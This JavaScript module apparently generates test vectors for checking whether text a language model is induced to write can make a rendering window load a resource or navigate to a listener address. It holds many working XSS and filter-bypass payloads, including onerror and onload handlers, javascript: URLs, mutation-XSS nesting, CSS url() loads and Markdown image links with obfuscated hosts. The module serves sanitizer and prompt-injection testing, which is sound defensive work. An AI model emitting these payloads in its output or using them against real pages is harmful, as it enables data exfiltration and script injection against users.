// Texts that a model could be made to write so that the window loads something, or goes somewhere. `at` makes an
// address on the listener; each vector asks for one of its own.

const quoted = (text) => `"${text}"`;

/** Elements that load by an attribute. */
const LOADS = [
  ['img', 'src'], ['img', 'srcset'], ['img', 'lowsrc'], ['input type=image', 'src'], ['iframe', 'src'], ['frame', 'src'], ['embed', 'src'],
  ['object', 'data'], ['video', 'src'], ['video', 'poster'], ['audio', 'src'], ['audio autoplay', 'src'], ['source', 'src'], ['source', 'srcset'],
  ['track', 'src'], ['script', 'src'], ['script type=module', 'src'], ['link rel=stylesheet', 'href'], ['link rel=preload as=image', 'href'],
  ['link rel=prefetch', 'href'], ['link rel=preconnect', 'href'], ['link rel=dns-prefetch', 'href'], ['link rel=modulepreload', 'href'],
  ['link rel=icon', 'href'], ['link rel=manifest', 'href'], ['link rel=import', 'href'], ['base', 'href'], ['body', 'background'],
  ['table', 'background'], ['td', 'background'], ['bgsound', 'src'], ['applet', 'codebase'], ['portal', 'src'], ['html', 'manifest'], ['image', 'src'],
  ['blockquote', 'cite'], ['a ping=x', 'ping'], ['form', 'action'], ['button formaction=x', 'formaction'], ['area', 'href'],
];

/** What a script would do if one ran. */
const DEEDS = [
  (url) => `fetch('${url}')`,
  (url) => `new Image().src='${url}'`,
  (url) => `location='${url}'`,
  (url) => `navigator.sendBeacon('${url}')`,
  (url) => `new WebSocket('${url.replace('http', 'ws')}')`,
  (url) => `import('${url}')`,
];

/** Where a script could hide. */
const HIDING = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror=${quoted(deed)}>`,
  (deed) => `<svg onload=${quoted(deed)}></svg>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<details open ontoggle=${quoted(deed)}>x</details>`,
  (deed) => `<video onloadstart=${quoted(deed)}><source></video>`,
  (deed) => `<body onload=${quoted(deed)}>`,
  (deed) => `<input autofocus onfocus=${quoted(deed)}>`,
  (deed) => `<marquee onstart=${quoted(deed)}>x</marquee>`,
  (deed) => `<div onanimationstart=${quoted(deed)} style="animation:x 1s">x</div>`,
  (deed) => `<iframe srcdoc="&lt;script&gt;${deed}&lt;/script&gt;"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<math><mtext><mglyph><style><img src=x onerror=${quoted(deed)}></style></mglyph></mtext></math>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${quoted(deed)}>"></noscript>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<!--<img src="--><img src=x onerror=${quoted(deed)}>-->`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<a href="javascript:${deed}" autofocus>x</a>`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
  (deed) => `<style onload=${quoted(deed)}></style>`,
  (deed) => `<link rel=stylesheet href=x onerror=${quoted(deed)}>`,
  (deed) => `<audio src=x onerror=${quoted(deed)}>`,
  (deed) => `<select autofocus onfocus=${quoted(deed)}><option>x</select>`,
  (deed) => `<p onmouseover=${quoted(deed)} onpointerenter=${quoted(deed)} style="position:fixed;inset:0">x</p>`,
  (deed) => `[x](javascript:${deed.replaceAll(' ', '%20')})`,
];

/** Markdown that names a picture. */
const PICTURES = [
  (url) => `![x](${url})`,
  (url) => `![x](<${url}>)`,
  (url) => `![x](${url} "title")`,
  (url) => `![x](${url} =10x10)`,
  (url) => `![][i]\n\n[i]: ${url}`,
  (url) => `![i]\n\n[i]: <${url}> 'title'`,
  (url) => `[![x](${url})](${url}-link)`,
  (url) => `| a |\n|---|\n| ![x](${url}) |`,
  (url) => `- item\n\n  ![x](${url})`,
  (url) => `> > ![x](${url})`,
  (url) => `# ![x](${url})`,
  (url) => `**![x](${url})**`,
  (url) => `~~![x](${url})~~`,
  (url) => `note[^1]\n\n[^1]: ![x](${url})`,
  (url) => `![x](${url.replace('http:', 'HTTP:')})`,
  (url) => `![x](${url.replace('http:', '')})`,
  (url) => `![x](${url.replace('http', 'h&#116;tp')})`,
  (url) => `![x](${url.replace('//', '/\\/')})`,
  (url) => `![\`code\`](${url})`,
  (url) => `![x](${url.replace('127.0.0.1', '0x7f000001')})`,
  (url) => `![x](${url.replace('127.0.0.1', '2130706433')})`,
  (url) => `![x](${url.replace('127.0.0.1', 'localhost')})`,
  (url) => `![x](${url.replace('127.0.0.1', 'user:password@127.0.0.1')})`,
  (url) => `- [ ] ![x](${url})`,
];

/** Styles that load. */
const STYLES = [
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<style>@import url(${url});</style>`,
  (url) => `<style>body{background:url(${url})}</style>`,
  (url) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  (url) => `<style>li::marker{content:url(${url})}</style>`,
  (url) => `<style>*{cursor:url(${url}),auto}</style>`,
  (url) => `<style>a{mask:url(${url}#x)}</style>`,
  (url) => `<p style="background:url(${url})">x</p>`,
  (url) => `<p style="background-image:image-set('${url}' 1x)">x</p>`,
  (url) => `<p style="list-style-image:url(${url});display:list-item">x</p>`,
  (url) => `<p style="border-image:url(${url}) 1">x</p>`,
  (url) => `<p style="filter:url(${url}#x)">x</p>`,
  (url) => `<p style="--x:url(${url});background:var(--x)">x</p>`,
  (url) => `<p style="shape-outside:url(${url});float:left">x</p>`,
];

/** Drawings and formulas that load. */
const DRAWINGS = [
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<svg><image xlink:href="${url}"/></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<svg><filter><feImage href="${url}"/></filter></svg>`,
  (url) => `<svg><script href="${url}"/></svg>`,
  (url) => `<svg><foreignObject><img src="${url}"></foreignObject></svg>`,
  (url) => `<svg><a href="${url}"><text>x</text></a></svg>`,
  (url) => `<svg><animate href="#x" attributeName="href" values="${url}"/></svg>`,
  (url) => `<svg><style>@import "${url}";</style></svg>`,
  (url) => `<?xml-stylesheet href="${url}"?><svg/>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `$\\includegraphics{${url}}$`,
  (url) => `$\\href{${url}}{x}$`,
  (url) => `$\\url{${url}}$`,
  (url) => `$\\htmlStyle{background:url(${url})}{x}$`,
  (url) => `$\\htmlClass{x}{y} \\htmlData{src=${url}}{x}$`,
  (url) => `$$\n\\text{<img src=${url}>}\n$$`,
  (url) => `$$\n\\def\\x{\\includegraphics{${url}}}\\x\n$$`,
  (url) => '```mermaid\ngraph TD\n  A["<img src=\'' + url + '\'>"] --> B\n  click A "' + url + '"\n```',
  (url) => '```svg\n<svg><image href="' + url + '"/></svg>\n```',
  (url) => '```html\n<img src="' + url + '">\n```',
  (url) => '```css\n@import "' + url + '";\n```',
  (url) => '```math\n\\includegraphics{' + url + '}\n```',
  (url) => '```"><img src=' + url + '>\nx\n```',
];

/** Ways out of the page. */
const WAYS_OUT = [
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<a href="${url}" autofocus>x</a>`,
  (url) => `<a href="${url}" target=_blank download>x</a>`,
  (url) => `<form action="${url}"><input name=q autofocus><button>x</button></form><script>document.forms[0].submit()</script>`,
  (url) => `<iframe name=x src="${url}"></iframe><a href="${url}" target=x>x</a>`,
  (url) => `<${url}>`,
  (url) => url,
  (url) => `[x](${url})`,
  (url) => `[x][evil]\n\n[evil]: ${url}`,
  (url) => `[x](${url} "title")`,
  (url) => `[x](data:text/html,<meta http-equiv=refresh content=0;url=${url}>)`,
  (url) => `[x](view-source:${url})`,
  (url) => `[x](tauri://localhost/?${url})`,
  (url) => `[x](ipc://localhost/${url})`,
  (url) => `<link rel="prerender" href="${url}"><link rel="next" href="${url}">`,
];

/** All of them. */
export function vectors(at) {
  const made = [
    ...LOADS.flatMap(([element, attribute]) => [
      (url) => `<${element} ${attribute}="${url}">`,
      (url) => `text <b><${element} ${attribute}=${url}></${element.split(' ')[0]}></b> text`,
    ]),
    ...HIDING.flatMap((hide) => DEEDS.map((deed) => (url) => hide(deed(url)))),
    ...PICTURES,
    ...STYLES,
    ...DRAWINGS,
    ...WAYS_OUT,
  ];
  return made.map((make, number) => make(at(number)));
}
